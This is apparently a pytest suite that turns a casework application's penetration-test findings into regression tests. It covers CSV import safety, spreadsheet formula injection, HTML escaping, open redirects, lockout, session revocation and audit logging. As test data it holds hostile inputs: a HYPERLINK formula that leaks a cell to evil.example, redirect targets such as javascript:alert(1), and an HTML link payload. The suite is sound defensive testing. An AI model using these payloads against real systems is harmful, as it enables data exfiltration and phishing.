"""The first penetration test's findings (docs/security.md), each reproduced as the attack and refused."""

from __future__ import annotations

import datetime as dt

import pytest
from sqlalchemy import func, select

from casework import clock
from casework import models as m
from casework.extensions import db

from .conftest import EXAMPLES


def write(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text)
    return path


# 4. Imports that erase ----------------------------------------------------------------------

FAMILY_FIELDS = ("family_name", "address", "postcode", "ward", "identified_on", "attached_on",
                 "local_discretion", "local_discretion_reason")


def _families():
    return {f.family_ref: tuple(getattr(f, n) for n in FAMILY_FIELDS)
            for f in db.session.scalars(select(m.Family))}


def test_a_families_file_with_only_ref_and_name_erases_nothing_and_claims_stay(cli, examples,
                                                                               tmp_path):
    examples()
    before = _families()
    names = "\n".join(line.split(",")[0] + "," + line.split(",")[1]
                      for line in (EXAMPLES / "families.csv").read_text().splitlines())
    result = cli("import", "families", write(tmp_path, "names.csv", names + "\n"))
    assert result.output.strip() == "families: 0 created, 0 updated, 7 unchanged"
    assert _families() == before
    assert db.session.scalar(select(m.Family.address).where(m.Family.family_ref == "E01")) \
        == "146 Example Road"


def test_a_column_present_in_the_file_still_changes_its_field(cli, tmp_path):
    cli("import", "families", write(tmp_path, "a.csv",
        "family_ref,family_name,ward,postcode\nF1,X,Fant,ME1 1AA\n"))
    result = cli("import", "families", write(tmp_path, "b.csv", "family_ref,family_name,ward\nF1,X,\n"))
    assert result.output.strip() == "families: 0 created, 1 updated, 0 unchanged"
    family = db.session.scalar(select(m.Family))
    assert (family.ward, family.postcode) == (None, "ME1 1AA")  # blank clears, absent keeps
    history = db.session.scalars(select(m.RecordHistory)).all()
    assert [(h.before, h.after) for h in history] == [({"ward": "Fant"}, {"ward": None})]


# kind: (full file, the same rows with only the required columns, model, {field: kept value})
KEEPS = {
    "people": ("person_ref,family_ref,given_name,family_name,date_of_birth,sex\n"
               "P9,F1,Ann,Lee,2001-02-03,f\n",
               "person_ref,family_ref,given_name,family_name,date_of_birth\n"
               "P9,F1,Ann,Lee,2001-02-03\n", m.Person, {"sex": "f"}),
    "school-terms": (
        "person_ref,academic_year,term,sessions_possible,sessions_unauthorised,fixed_exclusions,"
        "permanent_exclusion,alternative_provision,on_roll\nP1,2012/13,autumn,100,5,2,y,y,n\n",
        "person_ref,academic_year,term,sessions_possible,sessions_unauthorised\n"
        "P1,2012/13,autumn,100,5\n", m.SchoolTerm,
        {"fixed_exclusions": 2, "permanent_exclusion": True, "alternative_provision": True,
         "on_roll": False}),
    "asb": ("asb_ref,person_ref,family_ref,date,kind\nA1,P1,F1,2012-05-01,asbo\n",
            "asb_ref,person_ref,date,kind\nA1,P1,2012-05-01,asbo\n", m.AsbRecord, {}),
    "work": ("work_ref,person_ref,kind,benefit,start_date,end_date\n"
             "W1,P1,employment,,2012-01-01,2012-06-01\n",
             "work_ref,person_ref,kind,start_date\nW1,P1,employment,2012-01-01\n", m.WorkSpell,
             {"end_date": dt.date(2012, 6, 1)}),
    "child-status": ("status_ref,person_ref,status,start_date,end_date\n"
                     "C1,P1,looked_after,2012-01-01,2012-09-01\n",
                     "status_ref,person_ref,status,start_date\nC1,P1,looked_after,2012-01-01\n",
                     m.ChildStatus, {"end_date": dt.date(2012, 9, 1)}),
    "needs": ("need_ref,family_ref,person_ref,problem,indicator,identified_on\n"
              "N1,F1,P1,education,EDU1,2015-01-01\n",
              "need_ref,family_ref,problem,indicator,identified_on\n"
              "N1,F1,education,EDU1,2015-01-01\n", m.Need, {}),
    "domestic-abuse": ("incident_ref,person_ref,family_ref,date\nD1,P1,F1,2012-05-01\n",
                       "incident_ref,family_ref,date\nD1,F1,2012-05-01\n",
                       m.DomesticAbuseIncident, {}),
}


@pytest.mark.parametrize("kind", sorted(KEEPS))
def test_every_kind_keeps_the_fields_of_columns_a_file_does_not_have(cli, tmp_path, kind):
    cli("import", "families", write(tmp_path, "f.csv", "family_ref,family_name\nF1,X\n"))
    cli("import", "people", write(tmp_path, "p.csv",
        "person_ref,family_ref,given_name,family_name,date_of_birth\nP1,F1,A,B,2000-01-01\n"))
    full, partial, model, kept = KEEPS[kind]
    assert cli("import", kind, write(tmp_path, "full.csv", full)).exit_code == 0
    before = db.session.scalar(select(model).order_by(model.id.desc()))
    snapshot = {c.name: getattr(before, c.name) for c in model.__table__.columns}
    db.session.expire_all()
    result = cli("import", kind, write(tmp_path, "partial.csv", partial))
    assert result.output.strip() == f"{kind}: 0 created, 0 updated, 1 unchanged", result.output
    after = db.session.scalar(select(model).order_by(model.id.desc()))
    assert {c.name: getattr(after, c.name) for c in model.__table__.columns} == snapshot
    assert {k: getattr(after, k) for k in kept} == kept
    if hasattr(model, "family_id") and hasattr(model, "person_id"):
        assert after.family_id is not None and after.person_id is not None


# 8. Malformed CSV ---------------------------------------------------------------------------


def test_a_quote_never_closed_is_refused_naming_its_line_and_writes_nothing(cli, tmp_path):
    path = write(tmp_path, "f.csv", 'family_ref,family_name\nOK1,Fine\nBAD008,"never closed,1,2,3\n'
                                    "OK2,Also fine\n")
    result = cli("import", "families", path)
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"{path}:3: row: a quoted value is never closed: the file ends inside quotes")
    assert db.session.scalar(select(m.Family.id)) is None


def test_text_after_a_closing_quote_is_refused_naming_its_line(cli, tmp_path):
    path = write(tmp_path, "f.csv", 'family_ref,family_name\nOK1,"Fine"\nBAD9,"Half" quoted\n')
    result = cli("import", "families", path)
    assert result.exit_code == 1 and f"{path}:3: row: text follows a closing quote" in result.output


# 7. Slow input ------------------------------------------------------------------------------


def test_a_header_of_100000_columns_is_refused_at_once(cli, tmp_path):
    import time

    header = ",".join(f"c{i}" for i in range(100_000))
    path = write(tmp_path, "wide.csv", "family_ref,family_name," + header + "\n")
    # The work done, not the wall clock: on a shared machine, or beside another test worker,
    # the wall clock counts other processes' turns too.
    started = time.process_time()
    result = cli("import", "families", path)
    assert time.process_time() - started < 2
    assert result.exit_code == 1
    assert result.output.strip() == f"{path}:1: header: has 100002 columns; at most 200 are allowed"



# 1. Formula injection -----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C3,"Open record")'


def test_spreadsheet_cells_that_start_like_a_formula_are_neutralised():
    from casework.reports.exports import spreadsheet_cell

    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_cell(value) == "'" + value
    for value in ("Smith", "-12.50", "+3", "1200.00", 7, None, "a=b"):
        assert spreadsheet_cell(value) == value


def test_names_imported_as_formulas_are_text_in_every_csv_and_excel_export(
        client, sign_in, cli, examples, tmp_path):
    import csv
    import io

    from openpyxl import load_workbook

    from .factories import create_user

    examples()
    path = tmp_path / "names.csv"
    with path.open("w", newline="") as out:
        csv.writer(out).writerows([["family_ref", "family_name"], ["E01", HYPERLINK],
                                   ["E02", "+1+1"], ["E03", "@cmd"]])
    assert cli("import", "families", path).exit_code == 0
    cli("claims", "build", "--as-of", "2013-09-30")
    auditor = create_user("auditor")
    for claim in db.session.scalars(select(m.Claim)):
        cli("claims", "validate", claim.id, "--by", auditor.email)
    cli("claims", "batch", "--window", "Test")
    batch = db.session.scalar(select(m.ClaimBatch))
    sign_in("manager")

    rows = list(csv.reader(io.StringIO(client.get(f"/claims/batches/{batch.id}.csv").text)))
    names = {row[1]: row[2] for row in rows[1:]}
    assert names["E01"] == "'" + HYPERLINK and names["E03"] == "'@cmd"

    sheet = load_workbook(io.BytesIO(client.get(f"/claims/batches/{batch.id}.xlsx").data)).active
    cells = {sheet.cell(r, 2).value: sheet.cell(r, 3) for r in range(2, sheet.max_row)}
    assert cells["E01"].value == HYPERLINK and cells["E01"].data_type == "s"
    assert cells["E01"].quotePrefix
    assert all(sheet.cell(r, c).data_type != "f" for r in range(1, sheet.max_row)
               for c in range(1, sheet.max_column + 1))
    assert sheet.cell(sheet.max_row, 5).data_type == "f"  # the total is casework's own sum

    costs = list(csv.reader(io.StringIO(client.get("/programme/costs.csv?as_of=2013-09-30").text)))
    names = {row[0]: row[1] for row in costs[1:]}
    assert names["E01"] == "'" + HYPERLINK and names["E02"] == "'+1+1"
    assert all(not cell.startswith(("=", "+", "@")) for row in costs for cell in row)


# 5. Raw HTML in banners ---------------------------------------------------------------------

LINK = '<a href="https://evil.example/">Click me</a>'


def test_a_name_holding_html_is_shown_as_text_in_the_banner_after_a_save(client, sign_in):
    from .conftest import post_form
    from .factories import create_family, create_person

    family = create_family("V1")
    create_person(family, "VP1", born=dt.date(2001, 2, 3), given_name=LINK)
    sign_in("manager")
    response = post_form(client, "/people/VP1/edit", {
        "version": "1", "given_name": LINK, "family_name": "Test",
        "date_of_birth": ["3", "2", "2001"], "sex": "f"}, follow_redirects=True)
    banner = response.text.split('class="govuk-notification-banner', 1)[1].split("</div>\n</div>")[0]
    assert "evil.example" in banner and "<a href" not in banner
    assert "&lt;a href=&#34;https://evil.example/&#34;&gt;Click me&lt;/a&gt; Test&#39;s details saved." \
        in banner


def test_two_flashed_messages_are_two_escaped_paragraphs(app):
    from flask import render_template_string

    with app.test_request_context():
        html = render_template_string('{% from "macros.html" import success_banner %}'
                                      "{{ success_banner(messages) }}",
                                      messages=["<b>one</b>", "two & three"])
    assert html.count('<p class="govuk-notification-banner__heading">') == 2
    assert "&lt;b&gt;one&lt;/b&gt;" in html and "two &amp; three" in html and "<br>" not in html


def test_the_import_banner_shows_its_summary_not_literal_markup(client, sign_in):
    import io

    from .conftest import post_form

    sign_in("manager")
    response = post_form(client, "/imports/", {"kind": "families",
                         "file": (io.BytesIO(b"family_ref,family_name\nF1,X\n"), "f.csv")},
                         content_type="multipart/form-data")
    assert ('<p class="govuk-notification-banner__heading">families: 1 created, 0 updated, '
            "0 unchanged</p>") in response.text
    assert "&lt;p" not in response.text


# 6. Open redirect ---------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["https://evil.example/phish", "//evil.example/phish",
                                    "/\\evil.example/phish", "\\\\evil.example", "javascript:alert(1)",
                                    "/\t/evil.example", "https:/evil.example"])
def test_a_return_address_off_the_site_is_never_followed(target):
    from casework.security import safe_target

    assert safe_target(target, "/team") == "/team"
    assert safe_target("/families/E01?as_of=2013-09-30", "/team") == "/families/E01?as_of=2013-09-30"


def test_allocating_with_a_back_address_off_the_site_returns_to_the_team_page(client):
    from .conftest import login, post_form
    from .factories import cover_wards, create_family, create_user

    lead = create_user("team_lead", team="North")
    worker = create_user("worker", team="North")
    cover_wards("North", "Park")
    today = clock.today()
    create_family("R1", ward="Park", attached_on=today)  # signed up, waiting for a worker
    login(client, lead.email)
    response = post_form(client, "/families/R1/allocate?back=https://evil.example/phish", {
        "worker": str(worker.id), "on": [str(today.day), str(today.month), str(today.year)]},
        page_url="/families/R1/allocate")
    assert response.status_code == 302 and response.headers["Location"] == "/team"


def test_signing_in_with_a_next_address_off_the_site_goes_to_the_users_home(client):
    from .conftest import PASSWORD, csrf_token
    from .factories import create_user

    user = create_user("manager")
    page = client.get("/login")
    response = client.post("/login?next=/\\evil.example", data={
        "email": user.email, "password": PASSWORD, "csrf_token": csrf_token(page.text)})
    assert response.headers["Location"] == "/"  # the site's own home, which picks the role's


# 2. Lockout under concurrency ---------------------------------------------------------------


def _parallel_sign_ins(app, email: str, passwords: list[str]) -> list[int]:
    """Sign in with each password at the same moment, each from its own client (session)."""
    import functools

    from .conftest import FreshContextClient, csrf_token
    from .races import together

    app.test_client_class = FreshContextClient
    clients = []
    for _ in passwords:
        client = app.test_client()
        clients.append((client, csrf_token(client.get("/login").text)))

    def attempt(i):
        client, token = clients[i]
        return client.post("/login", data={"email": email, "password": passwords[i],
                                           "csrf_token": token}).status_code

    return together(*[functools.partial(attempt, i) for i in range(len(passwords))])


@pytest.mark.postgres
def test_24_parallel_wrong_passwords_count_ten_failures_and_lock_the_account(app, client):
    from .conftest import PASSWORD, login
    from .factories import create_user

    user = create_user("manager")
    codes = _parallel_sign_ins(app, user.email, ["wrong-password-xx"] * 24)
    assert sorted(codes) == [200] * 10 + [429] * 14
    assert login(client, user.email, PASSWORD).status_code == 429  # the right one, last
    failed = db.session.scalar(select(func.count()).where(m.AuditEvent.action == "sign_in_failed"))
    assert failed == 10


@pytest.mark.postgres
def test_the_per_address_limit_holds_across_app_servers_sharing_the_database(app, database_url):
    from casework import create_app

    servers = [create_app("test", SQLALCHEMY_DATABASE_URI=database_url).test_client()
               for _ in range(2)]
    codes = [servers[i % 2].post("/login", data={"email": "x@y.z", "password": "p"},
                                 environ_base={"REMOTE_ADDR": "203.0.113.7"}).status_code
             for i in range(31)]
    assert 429 not in codes[:30] and codes[30] == 429
    other = servers[0].post("/login", data={"email": "x@y.z", "password": "p"},
                            environ_base={"REMOTE_ADDR": "203.0.113.8"})
    assert other.status_code == 400  # another address is not limited (no CSRF token: 400)


def test_the_address_limit_counts_a_minute_and_the_lockout_fifteen(app):
    from freezegun import freeze_time

    from casework.auth import service

    with freeze_time("2026-11-01 09:00:00"):
        assert all(service.address_allowed("203.0.113.9") for _ in range(30))
        assert not service.address_allowed("203.0.113.9")
    with freeze_time("2026-11-01 09:00:59"):
        assert not service.address_allowed("203.0.113.9")
    with freeze_time("2026-11-01 09:01:00"):
        assert service.address_allowed("203.0.113.9")


# 3. Sessions revoked on the server -----------------------------------------------------------


def _signed_in_copy(app, client):
    """A second browser holding a copy of `client`'s session cookie."""
    thief = app.test_client()
    thief.set_cookie("session", client.get_cookie("session").value)
    return thief


def test_a_session_cookie_copied_before_sign_out_stops_working(app, client, sign_in):
    from .conftest import post_form

    sign_in("manager")
    thief = _signed_in_copy(app, client)
    assert thief.get("/families").status_code == 200
    post_form(client, "/logout", {}, page_url="/families")
    refused = thief.get("/families")
    assert refused.status_code == 302 and "/login" in refused.headers["Location"]


@pytest.mark.parametrize("change", ["reset_password", "deactivate_and_reactivate"])
def test_an_admin_change_ends_the_users_existing_sessions(app, client, change):
    from .conftest import login, post_form
    from .factories import create_user

    worker = create_user("worker")
    login(client, worker.email)
    assert client.get("/families").status_code == 200
    admin = app.test_client()
    login(admin, create_user("admin").email)
    if change == "reset_password":
        post_form(admin, f"/admin/users/{worker.id}/password",
                  {"password": "a-brand-new-passphrase"})
    else:
        post_form(admin, f"/admin/users/{worker.id}/deactivate", {"to": "0", "reason": ""})
        post_form(admin, f"/admin/users/{worker.id}/active", {"active": "1"},
                  page_url="/admin/users")
        assert db.session.get(m.User, worker.id).active
    refused = client.get("/families")
    assert refused.status_code == 302 and "/login" in refused.headers["Location"]
    assert admin.get("/admin/users").status_code == 200  # the admin's own session is kept


def test_signing_in_again_after_a_revocation_works(app, client, sign_in):
    from .conftest import login, post_form

    user = sign_in("manager")
    post_form(client, "/logout", {}, page_url="/families")
    assert login(client, user.email).status_code == 302
    assert client.get("/families").status_code == 200


# 9. Every response that shows personal data is audited ------------------------------------

from .test_security import ROLES, _get_routes, _walker, world  # noqa: E402,F401  (the route walker's world)


def _personal_markers() -> list[str]:
    import csv

    with (EXAMPLES / "people.csv").open() as people:
        names = [f"{p['given_name']} {p['family_name']}" for p in csv.DictReader(people)]
    return names + ["household", "Example Road", "ME15 6JQ"]


@pytest.mark.parametrize("role", ROLES)
def test_every_get_route_that_shows_personal_data_writes_an_audit_row(app, world, role):  # noqa: F811
    """The pages of the every-route walk (test_security.py), each answering the role 200
    where the walk says so, none skipped."""
    client = _walker(world, role)
    markers = _personal_markers()
    unaudited, not_shown, shown = [], [], 0
    for endpoint, url, expected in _get_routes(app, world, role):
        if expected != {200} or endpoint == "system.assets":
            continue
        before = db.session.scalar(select(func.count()).select_from(m.AuditEvent))
        response = client.get(url)
        if response.status_code != 200:
            not_shown.append((url, response.status_code))
            continue
        body = response.get_data(as_text=True) if response.mimetype.startswith(
            ("text/", "application/json")) else ""
        download = "attachment" in response.headers.get("Content-Disposition", "")
        if download or any(marker in body for marker in markers):
            shown += 1
            after = db.session.scalar(select(func.count()).select_from(m.AuditEvent))
            if after == before:
                unaudited.append(url)
    assert not_shown == [] and unaudited == []
    assert shown >= {"worker": 3, "team_lead": 5, "manager": 10, "auditor": 5, "admin": 0,
                     "partner": 3}[role]


def test_a_team_lead_opening_the_allocate_page_of_an_unallocated_family_is_audited(client):
    from .conftest import login
    from .factories import cover_wards, create_family, create_user

    create_family("UA1", family_name="Outside household", ward="Park")
    login(client, create_user("team_lead", team="North").email)
    cover_wards("North", "Park")
    assert client.get("/families/UA1/allocate").status_code == 200
    event = db.session.scalars(select(m.AuditEvent).where(m.AuditEvent.object_ref == "UA1")).one()
    assert event.action == "view" and event.object_type == "allocate"


# 10. Subject access is complete -------------------------------------------------------------


def test_subject_access_includes_what_is_held_about_the_person_through_their_family(
        app, client, sign_in, cli, examples, tmp_path):
    import json
    import subprocess

    from .factories import create_user

    examples()
    cli("import", "asb", write(tmp_path, "a.csv",
                               "asb_ref,family_ref,date,kind\nFA1,E01,2012-03-01,incident\n"))
    cli("import", "domestic-abuse", write(tmp_path, "d.csv",
                                          "incident_ref,family_ref,date\nFD1,E01,2012-04-01\n"))
    cli("import", "families", write(tmp_path, "f.csv", "family_ref,family_name,ward\n"
                                                       "E01,Taylor household,Park Wood\n"))
    cli("import", "child-status", write(tmp_path, "c.csv", "status_ref,person_ref,status,start_date\n"
                                                          "CS1,P00002,child_in_need,2012-01-01\n"))
    cli("import", "needs", write(tmp_path, "n.csv",
        "need_ref,family_ref,problem,indicator,identified_on\nFN1,E01,education,EDU1,2015-01-01\n"))
    cli("import", "assessments", write(tmp_path, "as.csv",
        "assessment_ref,need_ref,date,outcome,assessed_by\nAS1,FN1,2015-06-01,positive,Jo\n"))
    cli("claims", "build", "--as-of", "2013-09-30")
    family = db.session.scalar(select(m.Family).where(m.Family.family_ref == "E01"))
    db.session.add_all([
        m.PlanGoal(family_id=family.id, problem="education", goal="Back at school by Easter"),
        m.Referral(family_id=family.id, kind="other", agency="Housing",
                   referred_on=dt.date(2013, 1, 1)),
        m.Referral(family_id=family.id, person_ref="P00001", kind="other", agency="Not theirs",
                   referred_on=dt.date(2013, 1, 1)),
        m.FamilyPlan(family_id=family.id, lead_professional="Jo Lead", lead_agency="School"),
        m.LeadProfessional(family_id=family.id, user_id=create_user("worker", name="Dana Price").id,
                           from_on=dt.date(2013, 2, 1))])
    db.session.commit()
    sign_in("manager")
    data = json.loads(client.get("/people/P00002/export.json").data)
    assert {"asb_ref": "FA1", "date": "2012-03-01", "kind": "incident",
            "recorded_for": "family"} in data["asb"]
    assert {a["asb_ref"] for a in data["asb"] if a["recorded_for"] == "person"} >= {"A00007"}
    assert [d["incident_ref"] for d in data["domestic_abuse_incidents"]] == ["FD1"]
    assert [g["goal"] for g in data["plan_goals"]] == ["Back at school by Easter"]
    assert [r["agency"] for r in data["referrals"]] == ["Housing"]  # not a sibling's
    # The lead professional from its one source (access.lead_professional), as every page
    # names them; the plan's old free text only as what it is, no longer used.
    assert data["lead_professional"] == ["Dana Price (FIP worker) from 1 February 2013"]
    assert {k: v for k, v in data["family_plan"][0].items() if k != "updated_at"} == {
        "lead_professional_once_noted_on_the_plan": "Jo Lead",
        "lead_agency_once_noted_on_the_plan": "School"}
    assert [c["status_ref"] for c in data["child_statuses"]] == ["CS1"]
    assert [(n["need_ref"], n["recorded_for"]) for n in data["needs"]] == [("FN1", "family")]
    assert [a["assessment_ref"] for a in data["assessments"]] == ["AS1"]
    claims = data["claims"]
    assert claims and all(c["family_as_claimed"]["family_ref"] == "E01" for c in claims)
    assert any(row["ref"] == "P00002" for c in claims
               for row in c["evidence_about_the_person"].get("people", []))
    assert ("families", "E01") in {(h["record_type"], h["record_ref"]) for h in data["history"]}
    from casework.families.subject_access import subject_access_pdf_file

    manager = db.session.scalar(select(m.User).where(m.User.role == "manager"))
    with app.test_request_context():
        name, pdf = subject_access_pdf_file(manager, "P00002")
    assert name == "subject-access-P00002.pdf" and pdf[:4] == b"%PDF"
    (tmp_path / name).write_bytes(pdf)
    text = " ".join(subprocess.run(["pdftotext", str(tmp_path / name), "-"], capture_output=True,
                                   text=True, check=True).stdout.split())
    assert "Lead professional now Dana Price (FIP worker) from 1 February 2013" in text
    assert "Lead professional once noted on the plan (no longer used) Jo Lead" in text


# 11. Edits and errors -----------------------------------------------------------------------


@pytest.mark.parametrize("version", [None, "abc", "", "1e3", "99999999999999999999999"])
def test_a_family_edit_without_a_valid_version_is_refused_and_changes_nothing(
        client, sign_in, version):
    from .conftest import csrf_token
    from .factories import create_family

    create_family("V9", family_name="Before household")
    sign_in("manager")
    data = {"csrf_token": csrf_token(client.get("/families/V9/edit").text),
            "family_name": "After household"}
    if version is not None:
        data["version"] = version
    assert client.post("/families/V9/edit", data=data).status_code == 400
    db.session.expire_all()
    assert db.session.scalar(select(m.Family.family_name)) == "Before household"


@pytest.mark.parametrize("url", ["/families?page=99999999999999999999999", "/families?page=-5",
                                 "/families?page=abc", "/admin/audit?page=99999999999999999999999"])
def test_a_page_number_past_the_end_shows_the_last_page(client, sign_in, url):
    from .factories import create_family

    for i in range(30):
        create_family(f"PG{i:02d}", family_name=f"Page {i:02d} household")
    sign_in("admin" if "audit" in url else "manager")
    response = client.get(url)
    assert response.status_code == 200
    if "families?page=9" in url:
        from .test_families import _listing

        count, refs = _listing(response.text)  # the last page: 25 a page, so PG25 to PG29
        assert count == "Showing 26 to 30 of 30 families" and refs == [
            f"PG{i}" for i in range(25, 30)]


@pytest.mark.parametrize("value", ["9999-12-31", "1066-10-14"])
def test_an_as_of_date_out_of_range_is_a_usage_error(cli, value):
    result = cli("evaluate", "--as-of", value)
    assert result.exit_code == 2
    assert f"{value} is not a date between 1900-01-01 and 2199-12-31" in result.output


def test_an_as_of_date_out_of_range_on_a_page_is_a_form_error(client, sign_in):
    from .factories import create_family

    create_family("AS1")
    sign_in("manager")  # summary pages hold for the stored date; a family page takes a date
    response = client.get("/families/AS1?as_of=9999-12-31")
    assert response.status_code == 200
    from .parsed import Page

    assert [e for e in Page(response.text).errors
            if e.endswith("Enter a date between 1900-01-01 and 2199-12-31")
            or e.startswith("Enter a date between 1900-01-01 and 2199-12-31")]
    assert client.get("/families/AS1?as_of-day=31&as_of-month=12&as_of-year=9999").status_code == 200


# 12. Production ------------------------------------------------------------------------------


def test_production_refuses_a_secret_key_shorter_than_32_characters(monkeypatch):
    from casework import create_app
    from casework.config import ConfigurationError

    monkeypatch.setenv("CASEWORK_SECRET_KEY", "x" * 31)
    with pytest.raises(ConfigurationError, match="at least 32 characters"):
        create_app("production", SECRET_KEY="x" * 31)
    key = "0123456789abcdefghijklmnopqrstuv"
    assert create_app("production", SECRET_KEY=key, SQLALCHEMY_DATABASE_URI="sqlite://")


@pytest.mark.parametrize("proxies, forwarded, expected", [
    ("0", "203.0.113.5", "10.0.0.1"),  # no proxy configured: the header is not believed
    ("1", "203.0.113.5", "203.0.113.5"),
    ("1", "198.51.100.66, 203.0.113.5", "203.0.113.5"),  # a forged first value is ignored
    ("2", "198.51.100.66, 203.0.113.5, 10.0.0.2", "203.0.113.5"),
])
def test_the_client_address_is_taken_from_the_configured_number_of_proxies(
        app, database_url, proxies, forwarded, expected):
    from casework import create_app

    behind = create_app("test", SQLALCHEMY_DATABASE_URI=database_url, PROXIES=proxies)
    client = behind.test_client()
    client.post("/login", data={"email": "x@y.z", "password": "p"},
                environ_base={"REMOTE_ADDR": "10.0.0.1"}, headers={"X-Forwarded-For": forwarded})
    with behind.app_context():
        key = db.session.scalar(select(m.SignInCounter.key).where(
            m.SignInCounter.key.like("address:%")))
    assert key == f"address:{expected}"


def test_a_proxy_count_that_is_not_a_number_is_named():
    from casework import create_app
    from casework.config import ConfigurationError

    with pytest.raises(ConfigurationError, match="CASEWORK_PROXIES='two'"):
        create_app("test", PROXIES="two")


def test_the_development_servers_log_carries_no_query_strings(tmp_path):
    import os
    import socket
    import subprocess
    import sys
    import time
    import urllib.request
    from pathlib import Path

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("CASEWORK_")}
    env["DATABASE_URL"] = f"sqlite:///{tmp_path}/log.db"
    server = subprocess.Popen([str(Path(sys.executable).parent / "casework"), "run", "--port",
                               str(port)], env=env, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60  # a loaded CI machine can take many seconds to start it
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(
                    f"http://127.0.0.1:{port}/login?next=/families%3Fq%3DCasey%2BRoberts&q=ME15")
                break
            except OSError:
                time.sleep(0.1)
        else:
            pytest.fail("the development server did not answer within 60 s")
    finally:
        server.terminate()
        log = server.communicate(timeout=10)[1]
    assert "GET /login?…" in log
    assert "Casey" not in log and "ME15" not in log and "next=" not in log


def test_gunicorns_access_log_format_has_no_query_string_or_referrer():
    from pathlib import Path

    config = {}
    exec((Path(__file__).resolve().parent.parent / "gunicorn.conf.py").read_text(), config)
    atoms = config["access_log_format"]
    assert "%(U)s" in atoms and not any(a in atoms for a in ("%(r)s", "%(q)s", "%(f)s"))


def test_the_match_path_refuses_a_quote_never_closed_and_an_absurd_header_alike(tmp_path):
    from casework.importer.service import ImportRefused
    from casework.matching.files import read_records

    bad = b'asb_ref,given_name,family_name,date_of_birth,date,kind\nA1,"Ann,Lee,2001-01-01\n'
    with pytest.raises(ImportRefused) as refused:
        read_records(bad, "a.csv")
    assert refused.value.errors == [
        "a.csv:2: row: a quoted value is never closed: the file ends inside quotes"]
    wide = ("asb_ref," + ",".join(f"c{i}" for i in range(100_000)) + "\n").encode()
    with pytest.raises(ImportRefused) as refused:
        read_records(wide, "w.csv")
    assert refused.value.errors == ["w.csv:1: header: has 100001 columns; at most 200 are allowed"]
